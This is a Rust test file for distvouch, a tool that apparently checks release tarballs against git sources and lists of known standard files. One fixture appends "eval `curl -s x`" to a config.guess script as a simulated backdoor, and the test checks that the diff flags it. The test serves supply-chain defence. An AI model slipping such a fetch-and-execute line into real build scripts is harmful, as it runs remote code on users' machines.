//! `distvouch known`, and which lists `source` asks.
#![allow(missing_docs, clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use crate::common::{Run, Scratch, distvouch};
use crate::source::Repo;
use crate::support::{Node, gzip, release, tar, text};
use std::path::Path;

const MACRO: &str = "# serial 1\nAC_DEFUN([MY_CHECK], [true])\n";

fn known(arguments: &[&str], data: Option<&Path>) -> Run {
    let mut command = distvouch();
    command.arg("known").args(arguments);
    if let Some(data) = data {
        command.env("DISTVOUCH_DATA", data);
    }
    Run::of(command.output().unwrap())
}

/// A repository at v1.3 without the macro, and an archive with it.
fn scene() -> (Repo, std::path::PathBuf) {
    let repo = Repo::new();
    let files = [("configure.ac", text("AC_INIT\n")), ("a.c", text("int a;\n"))];
    repo.commit(&files);
    repo.tag("v1.3");
    let mut all: Vec<(&str, Node)> = files.to_vec();
    all.push(("m4/my-check.m4", text(MACRO)));
    let archive = release(repo.dir.path(), "foo-1.3", &all);
    (repo, archive)
}

fn source(repo: &Repo, archive: &Path, data: Option<&Path>) -> Run {
    let mut command = distvouch();
    command.args(["source", archive.to_str().unwrap(), "--git"]).arg(repo.path());
    if let Some(data) = data {
        command.env("DISTVOUCH_DATA", data);
    }
    Run::of(command.output().unwrap())
}

/// What a project published for others to copy is folded in a diff; what is only named like it is not.
#[test]
fn standard_files_in_a_diff() {
    let scratch = Scratch::new();
    let list = scratch.file("data/known/more.list");
    for directory in [&scratch.file("files"), list.parent().unwrap()] {
        std::fs::create_dir_all(directory).unwrap();
    }
    let guess = "#! /bin/sh\n# timestamp 1\neval $set_cc_for_build\n";
    scratch.write("files/config.guess", guess);
    let (files, output) = (scratch.file("files"), list.to_str().unwrap());
    let made =
        known(&["make", "--output", output, "--project", "mine", files.to_str().unwrap()], None);
    assert_eq!(made.status, 0, "{}", made.stderr);
    let pack = |top: &str, guess: &str| {
        std::fs::create_dir_all(scratch.file(top)).unwrap();
        release(
            &scratch.file(top),
            top,
            &[("a.c", text("int a;\n")), ("config.guess", text(guess))],
        )
    };
    let old = pack("foo-1.2", "#! /bin/sh\n# timestamp 0\n");
    let diff = |new: &Path| {
        let mut command = distvouch();
        command.env("DISTVOUCH_DATA", scratch.file("data")).arg("diff").arg(&old).arg(new);
        Run::of(command.output().unwrap()).stdout
    };
    let printed = diff(&pack("foo-1.3", guess));
    assert!(printed.contains("As mine published them: 1 file (+2 -1): config.guess."), "{printed}");
    let printed = diff(&pack("foo-1.4", &format!("{guess}eval `curl -s x`\n")));
    assert!(printed.contains("  config.guess (+3 -1): line"), "{printed}");
}

/// A list that the person who runs the program put there is asked; one that a clone or an archive brings
/// is not.
#[test]
fn whose_lists_are_asked() {
    let (repo, archive) = scene();
    assert_eq!(source(&repo, &archive, None).status, 1);
    let scratch = Scratch::new();
    let list = scratch.file("data/known/more.list");
    for directory in [&scratch.file("files"), list.parent().unwrap()] {
        std::fs::create_dir_all(directory).unwrap();
    }
    scratch.write("files/my-check.m4", MACRO);
    let files = scratch.file("files");
    let made = known(
        &["make", "--output", list.to_str().unwrap(), "--project", "mine", files.to_str().unwrap()],
        None,
    );
    assert_eq!(made.status, 0, "{}", made.stderr);
    let data = scratch.file("data");
    let run = source(&repo, &archive, Some(&data));
    assert_eq!(run.status, 0, "{}", run.stdout);
    assert!(crate::common::flat(&run.stdout).contains("1 is mine's"), "{}", run.stdout);
    // The same list in the clone, in its working tree, and in the archive.
    for place in [".git/known", "known", "usr/share/distvouch/known"] {
        let there = repo.path().join(place);
        std::fs::create_dir_all(&there).unwrap();
        std::fs::copy(&list, there.join("more.list")).unwrap();
    }
    let mut members = vec![("configure.ac", text("AC_INIT\n")), ("a.c", text("int a;\n"))];
    members.push(("m4/my-check.m4", text(MACRO)));
    members.push(("known/more.list", Node::File(std::fs::read(&list).unwrap(), 0o644)));
    let archive = release(repo.dir.path(), "foo-1.3", &members);
    assert_eq!(source(&repo, &archive, None).status, 1);
    // One that is damaged is named.
    std::fs::write(&list, "distvouch known files 1\nx").unwrap();
    let run = source(&repo, &archive, Some(&data));
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("more.list: is not a list"), "{}", run.stderr);
}

#[test]
fn lists_from_every_source() {
    let scratch = Scratch::new();
    let (repo, archive) = scene();
    repo.commit(&[("m4/my-check.m4", text("# serial 0\n"))]);
    repo.commit(&[("m4/my-check.m4", text(MACRO)), ("README.m4x", text("no\n"))]);
    let clone = repo.path();
    let members = [("./usr/share/aclocal/deb.m4".to_owned(), text("# deb\n"))];
    let data = gzip(&tar(&members));
    let mut deb = b"!<arch>\n".to_vec();
    for (name, contents) in [("debian-binary", b"2.0\n".to_vec()), ("data.tar.gz", data)] {
        deb.extend(
            format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", 0, 0, 0, 644, contents.len())
                .bytes(),
        );
        deb.extend(&contents);
        deb.extend(vec![b'\n'; contents.len() % 2]);
    }
    let package = scratch.write("foo_1%3a2.0-1_all.deb", deb);
    let list = scratch.file("a.list");
    let made = known(
        &[
            "make",
            "--output",
            list.to_str().unwrap(),
            clone.to_str().unwrap(),
            archive.to_str().unwrap(),
            package.to_str().unwrap(),
        ],
        None,
    );
    assert_eq!(made.status, 0, "{}", made.stderr);
    // As text it is the same list again.
    let text_form = scratch.file("b.list");
    let text_path = text_form.to_str().unwrap();
    let again = known(&["make", "--text", "--output", text_path, list.to_str().unwrap()], None);
    assert_eq!(again.status, 0, "{}", again.stderr);
    let rows = std::fs::read_to_string(&text_form).unwrap();
    assert!(rows.contains("\tdeb.m4\tdebian:foo 1:2.0-1\t-\n"), "{rows}");
    assert_eq!(rows.matches("\tmy-check.m4\tclone\t").count(), 2, "{rows}");
    assert!(rows.contains("\tmy-check.m4\tfoo-1.3\t-\n"), "{rows}");
    let extended = known(&["extend", text_path, "--only", "*.m4x", clone.to_str().unwrap()], None);
    assert_eq!(extended.status, 0, "{}", extended.stderr);
    std::fs::create_dir_all(scratch.file("data/known")).unwrap();
    std::fs::copy(&text_form, scratch.file("data/known/x.list")).unwrap();
    let data = scratch.file("data");
    let shown = known(&["show", "README.m4x", "my-check.m4"], Some(&data));
    assert!(
        shown.stdout.contains("my-check.m4: 2 versions are known, in 3 rows"),
        "{}",
        shown.stdout
    );
    assert!(shown.stdout.contains("README.m4x: 1 version is known"), "{}", shown.stdout);
    assert_eq!(shown.status, 0);
    // As grep does: 1 where something that was named is not there.
    let unknown = scratch.write("my-check.m4", "of no one\n");
    for what in ["no-such-file.m4", unknown.to_str().unwrap()] {
        let shown = known(&["show", "my-check.m4", what], Some(&data));
        assert_eq!(shown.status, 1, "{what}: {}", shown.stdout);
        assert!(shown.stdout.contains("my-check.m4: 2 versions"), "{}", shown.stdout);
    }
    for bad in [&["make", "--output", "x", "/nonexistent"][..], &["extend", "/dev/null", "."]] {
        assert_eq!(known(bad, None).status, 2);
    }
    let nothing = scratch.file("empty");
    std::fs::create_dir(&nothing).unwrap();
    let run = known(&["make", "--output", text_path, nothing.to_str().unwrap()], None);
    assert!(run.status == 2 && run.stderr.contains("--only"), "{}", run.stderr);
}
